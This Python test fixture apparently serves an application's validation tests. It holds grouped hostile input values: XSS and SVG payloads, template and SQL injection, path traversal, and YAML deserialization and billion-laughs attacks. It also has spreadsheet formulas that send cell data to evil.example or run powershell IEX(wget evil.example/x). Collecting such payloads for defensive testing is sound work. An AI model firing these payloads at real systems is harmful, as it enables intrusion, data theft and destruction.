"""A corpus of hostile values, grouped by kind, sent through every form field, upload and
command-line input by tests/test_hostile*.py.

Payloads that would run script set `window.__hostile` or call alert(): the browser tests
watch for both. Every value is data; nothing here is ever evaluated."""

from __future__ import annotations

FLAG = "__hostile"  # a script that runs sets window.__hostile

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    f"<script>window.{FLAG}=1</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>/*",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//evil.example>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    f"<img src=x onerror=window.{FLAG}=1>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>click</a>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    f'" autofocus onfocus="window.{FLAG}=1',
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "x\" style=\"background:url('javascript:alert(1)')",
    '<div style="width:expression(alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://",
    "https://",
    "http:evil.example",
    "https://evil.example\\@example.org/",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/ onmouseover=alert(1)",
    "https://example.org/<img src=x onerror=alert(1)>",
    "https://user:pass@example.org/",
    "https://example.org:99999/",
    "https://[::1/",
    "https://exa mple.org/",
    "https://xn--80ak6aa92e.com/",
    "http://127.0.0.1:5000/review",
]

SVG = [
    "<svg onload=alert(1)>",
    f"<svg/onload=window.{FLAG}=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x />",
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)>click</math>",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ 7 * 7 }}",
    "{{config}}",
    "{{ config.items() }}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% raw %}",
    "{% endraw %}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{0.__class__}",
    "{row.__init__.__globals__}",
    "%s%s%s%s%n",
    "%(password)s",
]

SQL = [
    "'; DROP TABLE submissions; --",
    '"; DROP TABLE submissions; --',
    "' OR 1=1 --",
    '" OR 1=1',
    "' OR '1'='1",
    "1; DELETE FROM users",
    "1 UNION SELECT password_hash FROM users",
    "') UNION SELECT name, password_hash FROM users --",
    "admin'--",
    "' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "x'); INSERT INTO users(name) VALUES('mallory'); --",
    "%",
    "_",
    "%%%",
    "\\%",
    "*",
    "NEAR(a b)",
    '"unterminated',
    "a OR b NOT c",
    "col:value",
    "^prefix*",
]

IDENTIFIERS = [
    "]",
    "[registry]",
    "a]b",
    "x]; DROP TABLE relationships; --",
    '"',
    'a"b',
    '""',
    ";",
    "a;b",
    "`name`",
    "[x] [y]",
    'name"]; select 1; --',
    "..",
    ".",
    "-",
    "--",
]

PATHS = [
    "../../etc/passwd",
    "../../etc/passwd.csv",
    "..\\..\\x.csv",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/etc/passwd.csv",
    "C:\\Windows\\system32\\x.csv",
    "\\\\server\\share\\x.csv",
    "....//....//x.csv",
    "%2e%2e%2f%2e%2e%2fx.csv",
    "x.csv\x00.png",
    "x\x00.csv",
    "x.csv/",
    "~/.ssh/authorized_keys",
    "CON.csv",
    "x.csv::$DATA",
    "\u202ecod.csv",
    "a" * 300 + ".csv",
]

# Control characters the validation refuses (NUL, C0, DEL, C1 at the start).
CONTROL = [
    "\x00",
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "\x01\x02\x03",
    "\x07bell",
    "\x08backspace",
    "\x0bvertical tab",
    "\x0cform feed",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7f",
    "a\x7fb",
    "\x1f",
    "line\rreturn",
    "line\r\nbreak",
    "\n\n\n",
    "\u0085next line",
    "\u2028line separator",
    "\u2029paragraph separator",
    "\ufeffbom",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ud7ff",
]

BIDI = [
    "\u202eevil",
    "abc\u202egpj.exe",
    "Police \u202eecnarf",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u2066isolate\u2069",
    "\u2067rtl isolate",
    "\u2068first strong",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
]

ZERO_WIDTH = [
    "\u200b",
    "Clearview\u200bAI",
    "Clear\u200cview",
    "Clear\u200dview",
    "\u2060word joiner",
    "\u00adsoft hyphen",
    "\u034fcombining grapheme joiner",
    "\u180emongolian",
]

# Text a spreadsheet would run as a formula (DDE and hyperlink tricks included).
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"A0")',
    "=1+1;=2+2",
    '"=1+1"',
    "'=1+1",
    " =1+1",
    "=",
    "+",
    "-",
    "@",
    "＝1+1",
    "=SUM(A1:A9)",
    "-@SUM(1)",
]

UNICODE = [
    "Ｃｌｅａｒｖｉｅｗ ＡＩ",
    "ﬁnance",
    "Ⅻ",
    "café",
    "cafe\u0301",
    "\u212bngström",
    "Å",
    "İstanbul",
    "ß",
    "ǅ",
    "\u0130\u0131",
    "Сlearview AI",  # a Cyrillic С
    "Ꮯlearview",
    "Ǆungla",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a",
    "Z̷̢̛̝a̶͎̓l̵̦̈́g̴̳̈́o̵̟͝",
    "＜script＞alert(1)＜/script＞",
    "\uff1cscript\uff1e",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "𝒥𝒶𝓋𝒶",
    "中文名称",
    "مرحبا",
    "עברית",
]

EMOJI = [
    "😀",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇧🇪",
    "💩" * 50,
    "🔥 Police 🔥",
    "\U0001f600<script>alert(1)</script>",
    "☃",
]

MISC = [
    "",
    " ",
    "   \t  ",
    "null",
    "None",
    "undefined",
    "NaN",
    "-Infinity",
    "true",
    "0",
    "-1",
    "9223372036854775808",
    "-9223372036854775809",
    "1e308",
    "0x41",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "]]>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><x>&xxe;</x>",
    "\\",
    "\\\\",
    "\\x3cscript\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00",
    "%0d%0aSet-Cookie: x=1",
    "header\r\nX-Injected: 1",
    "{}",
    "[]",
    '{"a": 1}',
    "S-0000000000",
    "-- comment",
    "/* comment */",
]

LONG = [
    "A" * 10_000,
    "<script>alert(1)</script>" * 400,
    "x" * 100_000,
    "y" * 1_000_000,
]

# Grouped: every kind has a name, so failures say which kind of value broke what.
GROUPS: dict[str, list[str]] = {
    "script": SCRIPT_TAGS,
    "event": EVENT_HANDLERS,
    "url": URLS,
    "svg": SVG,
    "template": TEMPLATES,
    "sql": SQL,
    "identifier": IDENTIFIERS,
    "path": PATHS,
    "control": CONTROL,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "formula": FORMULAS,
    "unicode": UNICODE,
    "emoji": EMOJI,
    "misc": MISC,
    "long": LONG,
}

# Every text value, each once, with an id naming its group and position.
VALUES: list[tuple[str, str]] = []
_seen: set[str] = set()
for _group, _values in GROUPS.items():
    for _i, _value in enumerate(_values):
        if _value not in _seen:
            _seen.add(_value)
            VALUES.append((f"{_group}-{_i}", _value))
del _seen

# A smaller set, one or two per kind, for the slower channels (subprocesses, the browser).
REPRESENTATIVE = [
    SCRIPT_TAGS[1],
    EVENT_HANDLERS[1],
    EVENT_HANDLERS[18],
    SVG[1],
    URLS[0],
    TEMPLATES[0],
    TEMPLATES[10],
    SQL[0],
    SQL[3],
    IDENTIFIERS[3],
    BIDI[1],
    ZERO_WIDTH[1],
    FORMULAS[2],
    FORMULAS[8],
    UNICODE[16],
    EMOJI[6],
]

# For the fields with a shape (dates, countries, codes, addresses), tried one field at a
# time: the first three values of every kind, and every URL.
SHAPED_VALUES = {*(value for values in GROUPS.values() for value in values[:3]), *URLS}

# Names of uploaded files (the web upload's file name; the CLI's FILE argument).
FILE_NAMES = [
    *PATHS,
    "<script>alert(1)</script>.csv",
    "<img src=x onerror=alert(1)>.csv",
    '"><svg onload=alert(1)>.csv',
    "=cmd|' calc'!A0.csv",
    "'; DROP TABLE submissions; --.csv",
    "x].csv",
    "{{7*7}}.csv",
    "list.csv.exe",
    "list.exe",
    ".csv",
    "....csv",
    "😀.csv",
    "liste-complète.csv",
    "\u202eexe.csv",
]

# CSV header rows (the columns a mapping names): markup, formulas, duplicates, blanks.
CSV_HEADERS = [
    ["<script>alert(1)</script>", "Agency"],
    ["=cmd|' /C calc'!A0", "Agency"],
    ["@SUM(1+1)", "+1", "-1", "Agency"],
    ['"><img src=x onerror=alert(1)>', "Agency"],
    ["{{7*7}}", "Agency"],
    ["a]b", 'c"d', "e;f", "Agency"],
    ["Agency", "Agency"],
    ["", ""],
    ["\u202eycnegA", "Agency"],
    ["Agency\x00", "x"],
    ["A" * 10_000, "Agency"],
]

# Mapping files (YAML) that must be refused with a clear message, never run.
YAML_ATTACKS = [
    "!!python/object/apply:os.system ['touch /tmp/hostile-yaml']",
    "vendor: !!python/object/apply:os.system ['touch /tmp/hostile-yaml']",
    "vendor: !!python/object/new:subprocess.Popen [['touch', '/tmp/hostile-yaml']]",
    "vendor: !!python/name:os.system",
    "vendor: !!python/module:os",
    "!!binary aGVsbG8=",
    # the billion laughs: nine levels of nine aliases
    "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n"
    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
    + "vendor: *i\n",
    "vendor: &v {slug: *v}",
    "vendor: [" * 10_000 + "]" * 10_000,
    "vendor: {" * 10_000 + "}" * 10_000,
    "vendor: {slug: clearview-ai}\nvendor: {slug: other}",
    "- just\n- a\n- list",
    "just a string",
    "42",
    "~",
    "vendor: {slug: '<script>alert(1)</script>'}",
    "vendor: {slug: clearview-ai}\nclient: {name: {column: '<script>alert(1)</script>'}}",
    "vendor: {slug: clearview-ai}\nclient:\n  name: {column: Agency, transforms: [{extract: '(a+)+$'}]}",
    "vendor: {slug: clearview-ai}\nclient:\n  name: {column: Agency, transforms: [{extract: '('}]}",
    "vendor: {slug: clearview-ai}\nlocator: '{row.__class__.__mro__}'",
    "\x00",
    ": : :",
    "\t\tvendor: x",
    "%YAML 9.9\n---\nvendor: x",
    "vendor: {slug: clearview-ai}\n" + "x" * 200_000,
]


def assert_corpus_size() -> int:
    """The number of distinct hostile text values (the issue asks for at least 200)."""
    return len(VALUES)
